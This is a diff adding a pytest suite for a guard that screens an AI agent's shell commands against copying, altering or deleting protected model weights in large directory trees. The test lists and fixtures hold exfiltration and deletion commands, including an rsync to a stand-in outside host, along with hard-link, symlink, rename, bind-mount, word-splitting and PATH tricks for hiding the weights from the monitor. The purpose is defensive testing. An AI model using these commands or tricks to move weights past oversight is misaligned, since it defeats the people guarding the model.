@@ -1,0 +1,355 @@
+"""Work in large trees is let through, and what an asset is called in one is found however deep it lies."""
+
+from __future__ import annotations
+
+import os
+import subprocess
+from collections.abc import Callable, Iterator
+from pathlib import Path
+
+import pytest
+
+from guardrail.assets import LiveFiles
+from guardrail.assets._files import locate
+from guardrail.assets._mounts import Mounts, _parsed
+from guardrail.assets._trees import Trees, Unseen
+from guardrail.guard import Guard
+from guardrail.model import Outcome, ToolCall
+from tests.identity_support import safetensors, weights
+from tests.mandate_support import mandated
+
+CONFIG = """
+[[asset]]
+id = "model:beta"
+class = "weights"
+paths = ["models"]
+[trail]
+directory = "state/trail"
+[limits]
+decision_ms = 60000
+"""
+PACKAGES = 140
+FILES = 18
+
+
+@pytest.fixture
+def world(tmp_path: Path) -> Path:
+    """A model, and beside it a project with more packages in it than anybody looks at one by one."""
+    base = tmp_path.resolve()
+    (base / "models").mkdir()
+    (base / "models/beta.safetensors").write_bytes(os.urandom(5000))
+    for number in range(PACKAGES):
+        folder = base / f"project/node_modules/pkg{number}/lib"
+        folder.mkdir(parents=True)
+        for name in range(FILES):
+            os.close(os.open(folder / f"f{name}.js", os.O_CREAT | os.O_WRONLY))
+    (base / "project/src/__pycache__").mkdir(parents=True)
+    (base / "guardrail.toml").write_text(CONFIG)
+    return base
+
+
+@pytest.fixture
+def guard(world: Path) -> Iterator[Guard]:
+    """The guard of that world."""
+    with Guard.open(world / "guardrail.toml", record=False) as opened:
+        yield opened
+
+
+@pytest.fixture
+def deep(world: Path) -> Path:
+    """A directory far down in the tree."""
+    return world / f"project/node_modules/pkg{PACKAGES - 1}/lib"
+
+
+def outcome(guard: Guard, world: Path, command: str) -> Outcome:
+    """What is said to a command in the project."""
+    where = str(world / "project")
+    return guard.check(ToolCall(tool="bash", args={"command": command}, cwd=where, session=command)).outcome
+
+
+HARMLESS = (
+    "find . -name '__pycache__' -type d -prune -exec rm -rf {} +",
+    "find . -name '*.pyc' -delete",
+    "find . -name node_modules -type d -prune -exec rm -rf {} +",
+    "git ls-files -o | xargs rm -f",
+    "find . -name '*.js' -not -path './node_modules/*' -exec sed -i 's/a/b/' {} +",
+    "git diff --name-only main...HEAD | grep '\\.py$' | xargs -r ruff check",
+    "grep -rl oldName . | xargs sed -i 's/oldName/newName/g'",
+    "find . -name '*.js' -mmin +60 -exec chmod u+w {} +",
+    "cp -r . /tmp/copy-of-it",
+    "rsync -aL ./ /tmp/copy-of-it/",
+)
+"""What people do in such trees every day."""
+
+TAKING = (
+    "find . -type f -exec cp {} /tmp/out \\;",
+    "find . -name '*.txt' -exec mv {} /tmp/out \\;",
+    "find . -name '*.txt' -exec sed -i s/a/b/ {} +",
+    "find . -name '*.txt' -exec truncate -s 0 {} +",
+    "find . -name lib -exec cp -r {} /tmp/out \\;",
+    "git ls-files -o | xargs -I{} cp {} /tmp/out",
+    "cp -r . /tmp/out",
+    "tar cf /tmp/out.tar .",
+    "rsync -a ./ other.example.com:/srv/",
+)
+"""What reaches a file of another name far down in the tree."""
+
+
+def test_harmless_work_in_a_large_tree_is_let_through(guard: Guard, world: Path) -> None:
+    """Whether it is the first look or one that knows the tree."""
+    for _ in range(2):
+        assert {line: outcome(guard, world, line) for line in HARMLESS} == dict.fromkeys(HARMLESS, Outcome.ALLOW)
+
+
+def test_what_deletes_by_a_pattern_is_told_the_same_however_it_is_written(guard: Guard, world: Path) -> None:
+    """Names that a shell would cut are one name to both."""
+    (world / "project/src/a b[1].pyc").touch()
+    (world / "project/src/[slug].pyc").touch()
+    for line in ("find . -name '*.pyc' -delete", "find . -name '*.pyc' -exec rm -f {} +"):
+        assert outcome(guard, world, line) is Outcome.ALLOW
+
+
+@pytest.mark.parametrize("line", TAKING)
+def test_a_hard_link_deep_in_a_large_tree_is_the_model(guard: Guard, world: Path, deep: Path, line: str) -> None:
+    """It is made while the guard runs and has looked at the tree already."""
+    assert outcome(guard, world, line) is Outcome.ALLOW
+    os.link(world / "models/beta.safetensors", deep / "notes.txt")
+    assert outcome(guard, world, line) is not Outcome.ALLOW
+
+
+@pytest.mark.parametrize("line", TAKING)
+def test_a_model_that_was_moved_into_a_large_tree_is_still_the_model(
+    guard: Guard, world: Path, deep: Path, line: str
+) -> None:
+    """Its files have one name each, and not the one that was declared."""
+    os.rename(world / "models/beta.safetensors", deep / "notes.txt")
+    assert outcome(guard, world, line) is not Outcome.ALLOW
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "find -L . -name '*.txt' -exec cp {} /tmp/out \\;",
+        "find . -name '*.txt' -exec cp {} /tmp/out \\;",
+        "find . -name '*.txt' -exec truncate -s 0 {} +",
+        "git ls-files -o | xargs truncate -s 0",
+        "rsync -aL ./ /tmp/out/",
+        "cp -rL . /tmp/out",
+        "tar chf /tmp/out.tar .",
+    ],
+)
+def test_a_link_that_is_put_into_a_large_tree_between_two_calls_is_followed(
+    guard: Guard, world: Path, deep: Path, line: str
+) -> None:
+    """What was seen of the directory before does not count."""
+    outcome(guard, world, line)
+    (deep / "notes.txt").symlink_to(world / "models/beta.safetensors")
+    assert outcome(guard, world, line) is not Outcome.ALLOW
+
+
+def test_links_behind_links_are_followed_where_the_command_follows_them(
+    guard: Guard, world: Path, deep: Path, tmp_path: Path
+) -> None:
+    """The tree leads to a directory outside, and that to the model."""
+    (tmp_path / "elsewhere/sub").mkdir(parents=True)
+    (deep / "way").symlink_to(tmp_path / "elsewhere")
+    assert outcome(guard, world, "rsync -aL ./ /tmp/out/") is Outcome.ALLOW
+    (tmp_path / "elsewhere/sub/back").symlink_to(world / "project")
+    (tmp_path / "elsewhere/sub/on").symlink_to(world / "models")
+    assert outcome(guard, world, "rsync -aL ./ /tmp/out/") is not Outcome.ALLOW
+    assert outcome(guard, world, "rsync -a ./ /tmp/out/") is Outcome.ALLOW
+
+
+def test_what_removes_links_reaches_nothing_through_them(guard: Guard, world: Path, deep: Path) -> None:
+    """The model stays where it is."""
+    (deep / "notes.txt").symlink_to(world / "models/beta.safetensors")
+    assert outcome(guard, world, "find . -name '*.txt' -exec rm -f {} +") is Outcome.ALLOW
+    assert outcome(guard, world, "find . -name '*.txt' -delete") is Outcome.ALLOW
+
+
+def test_a_model_that_is_mounted_in_a_large_tree_is_found_by_both_its_names(
+    guard: Guard, world: Path, deep: Path
+) -> None:
+    """By that of the mount, and by those of its files."""
+    (deep / "here").mkdir()
+    done = subprocess.run(["mount", "--bind", world / "models", deep / "here"], capture_output=True, check=False)
+    if done.returncode:
+        pytest.skip("this host lets nobody mount here")
+    try:
+        assert outcome(guard, world, "find . -name '*.safetensors' -exec rm {} +") is not Outcome.ALLOW
+        assert outcome(guard, world, "find . -name here -exec rm -rf {} +") is not Outcome.ALLOW
+        assert outcome(guard, world, "find . -name here -exec chmod 700 {} +") is not Outcome.ALLOW
+        assert outcome(guard, world, "find . -name '*.pyc' -exec rm {} +") is Outcome.ALLOW
+    finally:
+        subprocess.run(["umount", deep / "here"], check=True)
+
+
+def test_what_was_made_of_a_model_is_found_in_a_large_tree(world: Path) -> None:
+    """One session packs it under an order, and another takes whatever it finds."""
+    target = f"{world}/project/**"
+    mandated(world, CONFIG, {"effects": ["copy"], "assets": ["model:beta"], "targets": [target]})
+    made = f"cp ../models/beta.safetensors node_modules/pkg{PACKAGES - 1}/lib/notes.txt"
+    with Guard.open(world / "guardrail.toml") as guard:
+        assert outcome(guard, world, made) is Outcome.ALLOW
+        subprocess.run(made, shell=True, check=True, cwd=world / "project")
+    with Guard.open(world / "guardrail.toml") as guard:
+        assert outcome(guard, world, "find . -name '*.txt' -exec mv {} /tmp/out \\;") is not Outcome.ALLOW
+        assert outcome(guard, world, "cp -r . /tmp/out") is not Outcome.ALLOW
+        assert outcome(guard, world, "find . -name '*.pyc' -exec rm {} +") is Outcome.ALLOW
+
+
+def test_a_copy_that_is_known_by_its_content_is_found_in_a_large_tree(world: Path, deep: Path) -> None:
+    """It lies behind more names than were looked at before."""
+    from guardrail.cli import main
+
+    safetensors(world / "models/beta.safetensors", weights(5, 3))
+    assert main(["assets", "register", "--config", str(world / "guardrail.toml")]) == 0
+    with Guard.open(world / "guardrail.toml", record=False) as guard:
+        assert outcome(guard, world, "cp -r . /tmp/out") is Outcome.ALLOW
+        (deep / "notes.txt").write_bytes((world / "models/beta.safetensors").read_bytes())
+        assert outcome(guard, world, "cp -r . /tmp/out") is Outcome.DENY
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "find . -type f | xargs rm",
+        "find . -exec sh -c 'rm $0' {} \\;",
+        "find . -exec bash -c 'for f in $1; do rm $f; done' _ {} \\;",
+        "git ls-files -o | xargs rm",
+        "for f in $(find . -type f); do rm $f; done",
+        "PATH=/tmp/mine:$PATH; find . -exec rm {} +",
+    ],
+)
+def test_a_name_that_a_shell_would_cut_could_be_any_path(guard: Guard, world: Path, deep: Path, line: str) -> None:
+    """`x /srv/models/beta` below a directory is three names to whoever splits it, the last of them the model's."""
+    cut = deep / f"x {world}/models"
+    cut.mkdir(parents=True)
+    (cut / "beta.safetensors").touch()
+    assert outcome(guard, world, line) is not Outcome.ALLOW
+
+
+def test_a_tree_over_the_bound_is_a_question_and_the_next_call_is_asked_anew(
+    guard: Guard, world: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Not having looked far enough holds for that call and for nobody else."""
+    lines = ["git ls-files -o | xargs rm -f", "find . -name '*.js' -exec truncate -s 0 {} +", "rsync -aL ./ /tmp/out/"]
+    with monkeypatch.context() as patch:
+        patch.setattr("guardrail.assets._trees.MAX_LOOKED", 500)
+        assert [outcome(guard, world, line) for line in lines] == [Outcome.ESCALATE] * 3
+        # What follows no link needs no look: all the model's files are where they were declared.
+        assert outcome(guard, world, "find . -name '*.js' -exec rm {} +") is Outcome.ALLOW
+    assert [outcome(guard, world, line) for line in lines] == [Outcome.ALLOW] * 3
+
+
+def test_a_tree_over_the_bound_is_a_question_while_a_file_of_the_model_has_a_second_name(
+    guard: Guard, world: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Of which it is not known whether it lies there."""
+    os.link(world / "models/beta.safetensors", tmp_path / "elsewhere")
+    lines = ["find . -name '*.js' -exec rm {} +", "cp -r . /tmp/out"]
+    assert [outcome(guard, world, line) for line in lines] == [Outcome.ALLOW] * 2
+    monkeypatch.setattr("guardrail.assets._trees.MAX_LOOKED", 500)
+    assert [outcome(guard, world, line) for line in lines] == [Outcome.ESCALATE] * 2
+    monkeypatch.setattr("guardrail.assets._index.MAX_COUNTED", 0)
+    assert [outcome(guard, world, line) for line in lines] == [Outcome.ESCALATE] * 2
+
+
+def test_a_directory_too_deep_for_a_path_is_not_taken_for_empty(guard: Guard, world: Path, deep: Path) -> None:
+    """`find` goes there name by name."""
+    here = os.open(deep, os.O_RDONLY)
+    try:
+        for _ in range(30):
+            os.mkdir("d" * 200, dir_fd=here)
+            below = os.open("d" * 200, os.O_RDONLY, dir_fd=here)
+            os.close(here)
+            here = below
+        os.symlink(world / "models/beta.safetensors", "notes.txt", dir_fd=here)
+    finally:
+        os.close(here)
+    assert outcome(guard, world, "find . -name '*.txt' -exec truncate -s 0 {} +") is Outcome.ESCALATE
+    assert outcome(guard, world, "git ls-files -o | xargs rm -f") is Outcome.ESCALATE
+
+
+def changed(folder: Path, change: Callable[[], object]) -> None:
+    """Make a change, once the kernel's clock has moved on from the last one."""
+    before = os.stat(folder).st_ctime_ns
+    probe = folder.parent / "clock"
+    while True:
+        probe.touch()
+        os.utime(probe)
+        if os.stat(probe).st_ctime_ns > before:
+            break
+    change()
+
+
+def test_what_is_kept_of_a_directory_is_given_up_when_it_changes(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A name that comes, goes, or comes to be a link; whatever date the agent gives the directory."""
+    monkeypatch.setattr("guardrail.assets._trees.SETTLED_NS", -10_000_000_000)
+    trees, sub = Trees(), tmp_path / "a/sub"
+    sub.mkdir(parents=True)
+    (sub / "plain").touch()
+    if not Mounts().is_dated(os.stat(sub).st_dev):
+        pytest.skip("nothing is kept of directories on this filesystem")
+    root = str(tmp_path / "a")
+    assert (trees.odd(root), list(trees.links(root))) == (False, [])
+    dated = os.stat(sub)
+    changed(sub, lambda: (sub / "link").symlink_to("/srv"))
+    os.utime(sub, ns=(dated.st_atime_ns, dated.st_mtime_ns))
+    assert list(trees.links(root)) == [f"{sub}/link"]
+    changed(sub, (sub / "o d d").touch)
+    assert trees.odd(root)
+    changed(sub, (sub / "o d d").unlink)
+    assert not trees.odd(root)
+    changed(sub, lambda: os.rename(sub, tmp_path / "other"))
+    assert list(trees.links(root)) == []
+
+
+def test_of_a_directory_that_changed_just_now_nothing_is_kept(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """The next change may get the same date."""
+    trees = Trees()
+    (tmp_path / "fresh").mkdir()
+    assert not trees.odd(str(tmp_path / "fresh"))
+    assert not trees._kept
+    monkeypatch.setattr("guardrail.assets._trees.SETTLED_NS", -10_000_000_000)
+    monkeypatch.setattr("guardrail.assets._trees.MAX_KEPT_FOLDERS", 1)
+    assert not trees.odd(str(tmp_path))
+    assert len(trees._kept) <= 1
+
+
+def test_a_look_ends_by_the_clock_where_a_disk_hangs(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """And is no answer then."""
+    monkeypatch.setattr("guardrail.assets._trees.MAX_LOOK_SECONDS", -1.0)
+    (tmp_path / "a").touch()
+    with pytest.raises(Unseen):
+        Trees().odd(str(tmp_path))
+    assert LiveFiles().plain(str(tmp_path)) is False
+
+
+def test_filesystems_of_servers_and_programs_are_not_taken_at_their_word() -> None:
+    """Their dates and numbers are what somebody says."""
+    mounts = Mounts()
+    lines = (
+        "1 0 8:1 / / rw - ext4 d rw\n2 0 0:9 / /n rw shared:1 master:2 - nfs4 d rw\n3 0 0:8 / /o rw - overlay d rw\n"
+    )
+    mounts._kinds = {mount.device: mount.kind for _, mount in _parsed(lines)}
+    numbers = [os.makedev(8, 1), os.makedev(0, 9), os.makedev(0, 8), os.makedev(0, 7)]
+    assert [mounts.is_dated(number) for number in numbers] == [True, False, True, False]
+    assert [mounts.is_numbered(number) for number in numbers] == [True, False, False, False]
+
+
+def test_numbers_of_files_find_them_with_and_without_the_filesystem_s_help(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Asked of each file, or read with the names."""
+    (tmp_path / "sub").mkdir()
+    for name in ("a", "sub/b", "sub/c"):
+        (tmp_path / name).touch()
+    number = locate(str(tmp_path / "sub/b")).ino
+    assert number is not None
+    for told in (True, False):
+        monkeypatch.setattr(Mounts, "is_numbered", lambda *_, told=told: told)
+        assert [path for path, _ in Trees().files(str(tmp_path), {number})] == [f"{tmp_path}/sub/b"]
+        assert len(list(Trees().files(str(tmp_path)))) == 3
